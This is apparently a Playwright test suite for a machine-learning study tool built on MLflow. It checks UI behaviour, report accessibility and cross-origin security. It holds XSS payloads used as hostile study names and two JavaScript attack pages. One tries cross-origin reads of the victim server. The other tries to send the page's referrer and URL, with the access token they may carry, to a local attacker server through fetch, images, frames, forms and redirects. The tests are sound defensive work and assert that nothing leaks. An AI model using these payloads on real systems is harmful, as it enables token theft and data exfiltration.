"""In headless Chromium: the deep link, columns, sort, a run, ten compared; the report light and
dark, wide and narrow, offline; and what a page of another user, at another port, can read."""

from __future__ import annotations

import http.server
import json
import re
import shutil
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from study.config import StudyConfig
from study.ledger.state import fold
from study.ops.serve.team import PASSWORD
from study.report.write import write_report
from study.tracking.address import page as address
from study.tracking.writer import connect, sync
from tests.study.conftest import made_up_events, write_ledger
from tests.study.ops.serve.test_team import ADA, ADMIN, team_server
from tests.study.servers import Server

Tiny = Callable[..., StudyConfig]
EVIL = '"><script>alert(1)</script>'
EVIL_NAME = '"><img src=x onerror=alert(1)>'
"""A name without a slash."""
CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
SETTINGS = {
    "mlflow.assistant.panelOpen_v1": "false",
    "mlflow.assistant.fab.autoOpenedOnFirstLoad_v1": "true",
}
LEGIBLE = 4.5
"""Contrast between text and background that WCAG 2.1 requires (AA)."""

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        CHROMIUM is None, reason="Chromium is not installed: apt-get install chromium"
    ),
]


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """Headless Chromium."""
    sync_api = pytest.importorskip(
        "playwright.sync_api", reason="playwright is not installed: pip install playwright"
    )
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


class Tab:
    """A page that records its errors."""

    def __init__(self, browser: Any, **options: Any) -> None:
        self.context = browser.new_context(
            **{"viewport": {"width": 1280, "height": 900}, **options}
        )
        self.context.add_init_script(
            "".join(f"localStorage.setItem({key!r}, {value!r});" for key, value in SETTINGS.items())
        )
        self.page = self.context.new_page()
        self.page.set_default_timeout(60_000)
        self.errors: list[str] = []
        self.page.on(
            "console",
            lambda message: self.errors.append(message.text) if message.type == "error" else None,
        )
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.on(
            "dialog",
            lambda dialog: (self.errors.append(f"dialog: {dialog.message}"), dialog.dismiss()),
        )

    def __enter__(self) -> Tab:
        return self

    def __exit__(self, *_: object) -> None:
        self.context.close()


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory, server: Server) -> tuple[StudyConfig, str]:
    """A study of twelve trials with a hostile name and label, in MLflow; and its deep link."""
    from study.config.compose import load
    from tests.study.conftest import TINY

    folder = tmp_path_factory.mktemp("evil")
    (folder / "tiny.yaml").write_text(TINY)
    labels = {"float32": "float32", EVIL: "lns12"}
    rows = ", ".join(
        f"{{label: '{label}', overrides: {{precision.format: {name}}}}}"
        for label, name in labels.items()
    )
    changes = [
        f"name='{EVIL_NAME}'",
        f"rows=[{rows}]",
        "seeds=[0,1,2,3,4,5]",
        f"storage={folder}",
        f"tracking_uri={server.uri}",
    ]
    study = load(str(folder / "tiny.yaml"), changes)
    events = made_up_events(study)
    for place, event in enumerate(event for event in events if event["event"] == "report"):
        event["metrics"]["validation/error"] += place * 1e-4
    opened: list[dict[str, str]] = []
    write_ledger(study, events)
    report = write_report(fold(events), study.folder / "report")
    assert sync(study.folder, server.uri, folder / "artifacts", report, opened.append) == ""
    return study, f"{server.uri}/{address(opened[0]['experiment'], opened[0]['view'])}"


def test_the_deep_link_opens_the_prepared_view(browser: Any, evil: tuple[StudyConfig, str]) -> None:
    with Tab(browser) as tab:
        tab.page.goto(evil[1])
        tab.page.get_by_text("seed 0").first.wait_for()
        text = tab.page.inner_text("body")
        for column in ("row", "format", "precision.format", "validation/error"):
            assert column in text
        assert EVIL in text
        errors = [error for error in tab.errors if "Failed to load resource" not in error]
        assert errors == []


def test_runs_are_sorted_by_error_and_one_opens(
    browser: Any, evil: tuple[StudyConfig, str]
) -> None:
    study, link = evil
    client = connect(study.tracking)
    experiment = client.get_experiment_by_name(study.name).experiment_id
    best = client.search_runs(
        [experiment],
        "tags.kind = 'trial'",
        order_by=["metrics.`validation/error` ASC"],
        max_results=1,
    )[0]
    with Tab(browser) as tab:
        tab.page.goto(link)
        names = tab.page.get_by_role("link", name=re.compile("seed [0-5]"))
        names.first.wait_for()
        assert best.info.run_name in names.first.inner_text()
        names.first.click()
        tab.page.get_by_text("validation/error").first.wait_for()
        assert best.info.run_id in tab.page.url
        assert not [error for error in tab.errors if error.startswith("dialog")]


def test_the_charts_of_the_prepared_view_are_drawn(
    browser: Any, evil: tuple[StudyConfig, str]
) -> None:
    with Tab(browser, viewport={"width": 1600, "height": 1400}) as tab:
        tab.page.goto(f"{evil[1]}&compareRunsMode=CHART")
        for title in ("bits vs. validation/error", "seconds vs. validation/error"):
            tab.page.get_by_text(title, exact=True).first.wait_for()
        # grouped by row: two charts with a point for each of two rows
        tab.page.wait_for_function(
            "document.querySelectorAll('.scatterlayer .point').length >= 2 * 2"
        )
        text = tab.page.inner_text("body")
        assert text.index("Study") < text.index("bits vs.") < text.index("validation/loss")
        assert "cfg" not in text
        errors = [error for error in tab.errors if "Failed to load resource" not in error]
        assert errors == []


def test_ten_runs_are_compared(browser: Any, evil: tuple[StudyConfig, str]) -> None:
    import urllib.parse

    study, _ = evil
    client = connect(study.tracking)
    experiment = client.get_experiment_by_name(study.name).experiment_id
    runs = [
        run.info.run_id
        for run in client.search_runs([experiment], "tags.kind = 'trial'", max_results=10)
    ]
    query = urllib.parse.urlencode(
        {"runs": json.dumps(runs), "experiments": json.dumps([experiment])}
    )
    with Tab(browser) as tab:
        tab.page.goto(f"{study.tracking}/#/compare-runs?{query}")
        tab.page.get_by_text("Comparing 10 Runs").first.wait_for()
        tab.page.wait_for_function("document.querySelectorAll('.parcoords').length > 0")
        opened = tab.page.inner_text("body").partition("Metrics:")[2].split()[0]
        assert opened == "validation/error"
        assert not [error for error in tab.errors if error.startswith("dialog")]


CONTRAST = """() => {
  const light = (text) => { const [r, g, b] = text.match(/[\\d.]+/g).map(Number).map((v) => v / 255)
    .map((v) => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
  const page = light(getComputedStyle(document.body).backgroundColor);
  const texts = document.querySelectorAll("p:not(.remark), td, th, h1, h2, a, dt, dd, label");
  return Math.min(...[...texts].map((element) => {
    const text = light(getComputedStyle(element).color);
    return (Math.max(text, page) + 0.05) / (Math.min(text, page) + 0.05); }));
}"""


@pytest.mark.parametrize("width", [1280, 800, 390])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_report_works_offline_wide_and_narrow_light_and_dark(
    browser: Any, evil: tuple[StudyConfig, str], width: int, scheme: str, tmp_path: Path
) -> None:
    page = evil[0].folder / "report" / "report.html"
    with Tab(
        browser, viewport={"width": width, "height": 900}, color_scheme=scheme, offline=True
    ) as tab:
        tab.page.goto(page.as_uri())
        tab.page.wait_for_selector("body[data-explore=ready]")
        tab.page.wait_for_selector("#explore-scatter .point")
        assert tab.errors == []
        assert tab.page.evaluate("document.documentElement.scrollWidth") <= width
        assert tab.page.evaluate(CONTRAST) >= LEGIBLE
        assert EVIL_NAME in tab.page.inner_text("h1")
        assert EVIL in tab.page.inner_text("#explore-scatter")
        pictures = tab.page.evaluate(
            "[...document.images].every((image) => image.complete && image.naturalWidth > 800)"
        )
        assert pictures
        tab.page.select_option("#explore-x", "bits a value")
        tab.page.wait_for_function(
            "document.querySelector('#explore-scatter').layout.xaxis.title.text === 'bits a value'"
        )


# --------------------------------------------------------------------------------------------------

SECRET = "the-token-of-the-link"
ATTACK = """
<!doctype html><script>
const there = "http://127.0.0.1:%d", asked = ["/", "/ajax-api/2.0/mlflow/experiments/search"];
const get = async (url, options) => { try {
  const answer = await fetch(url, options);
  return answer.type === "opaque" ? "nothing" : answer.status + (await answer.text());
} catch (error) { return "nothing"; } };
const script = (url) => new Promise((done) => { const element = document.createElement("script");
  element.onload = () => done("ran"); element.onerror = () => done("nothing"); element.src = url;
  document.head.append(element); });
const frame = (url) => new Promise((done) => { const element = document.createElement("iframe");
  element.onload = () => { try { done(element.contentDocument.body.innerText); }
    catch (error) { done("nothing"); } };
  element.src = url; document.body.append(element); });
addEventListener("load", async () => {
  const got = {seen: [document.cookie, document.referrer, {...localStorage}]};
  for (const path of asked) for (const credentials of ["include", "omit"]) {
    got[`${path} ${credentials}`] = await get(there + path, {credentials});
    got[`${path} ${credentials} POST`] = await get(there + path, {credentials, method: "POST",
      body: '{"max_results": 9}', headers: {"Content-Type": "application/json"}});
    got[`${path} ${credentials} opaque`] = await get(there + path, {credentials, mode: "no-cors"});
  }
  got.script = await script(there + "/static-files/manifest.json");
  got.frame = await frame(there + "/");
  window.got = got;
});
</script><body></body>
"""


class Attacker(http.server.BaseHTTPRequestHandler):
    """The server of another user of the machine; it records what browsers send it."""

    page = ""
    noted: list[str]

    def do_GET(self) -> None:
        """Answer with the attacking page."""
        self.noted.append(f"{self.path} {dict(self.headers)}")
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.page.encode())

    def log_message(self, *_: object) -> None:
        """Do nothing."""


@contextmanager
def attacker(victim: int) -> Iterator[tuple[str, list[str]]]:
    """A server at another port with a page that attacks the one at ``victim``."""
    noted: list[str] = []
    kind = type("Kind", (Attacker,), {"page": ATTACK % victim, "noted": noted})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), kind) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/", noted
        server.shutdown()


def attack(tab: Tab, victim: int) -> None:
    """Go from the victim's page to the attacker's, which gets nothing."""
    with attacker(victim) as (address, noted):
        tab.page.evaluate(f"location.href = {address!r}")
        tab.page.wait_for_function("window.got")
        got = tab.page.evaluate("window.got")
    assert SECRET not in json.dumps(got) + "".join(noted)
    assert "Cookie" not in "".join(noted)
    answers = {key: value for key, value in got.items() if key[0] == "/"}
    assert len(answers) == 12
    assert {*answers.values(), got["script"], got["frame"]} == {"nothing"}


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """Started like ``lns-study ui``."""
    server = Server(tmp_path_factory.mktemp("guarded"), token=SECRET)
    server.start()
    yield server
    server.stop()


def test_a_page_at_another_port_gets_neither_token_nor_data(browser: Any, guarded: Server) -> None:
    with Tab(browser) as tab:
        tab.page.goto(f"{guarded.uri}/{SECRET}")
        tab.page.get_by_text("Experiments").first.wait_for()
        attack(tab, guarded.port)


STEAL = """
<!doctype html><body><h1>a stranger's page</h1><script>
const there = "%s", said = document.referrer + " " + location.href;
const to = (kind) => there + kind + "?" + encodeURIComponent(said);
fetch(to("fetch"), {mode: "no-cors"}).catch(() => 0);
new Image().src = to("image");
for (const kind of ["iframe", "script", "embed", "video"]) {
  const element = document.createElement(kind); element.src = to(kind);
  document.body.append(element);
}
const sheet = document.createElement("link"); sheet.rel = "stylesheet"; sheet.href = to("style");
document.head.append(sheet);
const form = document.createElement("form"); form.action = to("form"); document.body.append(form);
try { form.submit(); } catch (error) {}
document.querySelector("h1").textContent = "it ran: " + document.referrer;
setTimeout(() => { location.href = to("location"); }, 1500);
</script></body>
"""


def test_a_page_among_the_artifacts_learns_no_token_and_tells_nobody(
    browser: Any, guarded: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    """MLflow shows it in a frame: its scripts run, but receive and send nothing."""
    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", SECRET)
    client = connect(guarded.uri)
    run = client.create_run("0").info.run_id
    with attacker(guarded.port) as (address, noted):
        client.log_text(run, STEAL % address, "page.html")
        with Tab(browser) as tab:
            tab.page.goto(f"{guarded.uri}/{SECRET}")
            tab.page.get_by_text("Experiments").first.wait_for()
            tab.page.goto(f"{guarded.uri}/{SECRET}/#/experiments/0/runs/{run}/artifacts/page.html")
            shown = tab.page.frame_locator("iframe").get_by_text("it ran")
            shown.wait_for()
            assert SECRET not in shown.inner_text()
            tab.page.wait_for_timeout(4000)
        assert noted == []


def test_a_link_without_the_token_works_in_a_browser_that_has_it(
    browser: Any, guarded: Server
) -> None:
    """Like the links of a report, which is made before the token."""
    with Tab(browser) as tab:
        tab.page.goto(f"{guarded.uri}/#/experiments/0/runs")
        tab.page.get_by_text("Open the link that").wait_for()
        tab.page.goto(f"{guarded.uri}/{SECRET}#/experiments")
        tab.page.get_by_text("Default").first.wait_for()
        tab.page.goto("about:blank")
        tab.page.goto(f"{guarded.uri}/#/experiments/0/runs")
        tab.page.wait_for_url(f"{guarded.uri}/{SECRET}/#/experiments/0/runs**")
        tab.page.get_by_text("Default").first.wait_for()


def test_a_team_logs_browses_and_makes_users_and_a_page_at_another_port_gets_nothing(
    browser: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With logins, which a browser sends for any page."""
    from mlflow.server.auth.client import AuthServiceClient

    def log_in(name: str, password: str) -> dict[str, Any]:
        monkeypatch.setenv("MLFLOW_TRACKING_USERNAME", name)
        monkeypatch.setenv("MLFLOW_TRACKING_PASSWORD", password)
        return {"http_credentials": {"username": name, "password": password, "origin": address}}

    uri = f"sqlite:///{tmp_path / 'team.db'}"
    with team_server(uri, tmp_path, "--workers", "1", **{PASSWORD: ADMIN[1]}) as (address, _):
        with Tab(browser, **log_in(*ADMIN)) as tab:
            tab.page.goto(f"{address}/signup")
            tab.page.fill("input[name=username]", "lovelace")  # four letters or more
            tab.page.fill("input[name=password]", ADA[1])
            with tab.page.expect_response("**/users/create-ui") as made:
                tab.page.click("input[type=submit], button[type=submit]")
            assert made.value.ok
        credentials = log_in("lovelace", ADA[1])
        client = connect(address)
        experiment = client.create_experiment("ada's")
        run = client.create_run(experiment, run_name="logged by ada")
        client.log_metric(run.info.run_id, "validation/error", 0.25)
        client.log_text(run.info.run_id, "an artifact's text", "notes/text.txt")
        client.set_terminated(run.info.run_id)
        AuthServiceClient(address).get_user("lovelace")
        with Tab(browser, **credentials) as tab:
            tab.page.goto(
                f"{address}/#/experiments/{experiment}/runs?workflowType=machine_learning"
            )
            tab.page.get_by_text("logged by ada").first.click()
            tab.page.get_by_text("validation/error").first.wait_for()
            tab.page.goto(
                f"{address}/#/experiments/{experiment}/runs/{run.info.run_id}"
                "/artifacts/notes/text.txt"
            )
            tab.page.get_by_text("an artifact's text").first.wait_for()
            attack(tab, int(address.rpartition(":")[2]))
